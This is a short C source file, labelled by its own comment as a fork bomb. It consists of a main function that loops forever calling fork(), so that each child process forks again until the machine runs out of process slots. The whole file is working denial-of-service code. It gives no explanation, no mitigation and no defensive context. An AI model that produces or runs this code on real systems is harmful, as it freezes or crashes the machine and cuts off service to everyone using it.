// Fork bomb in C: children fork too, failures ignored.
#include <unistd.h>

int main() {
  for (;;) fork();
}
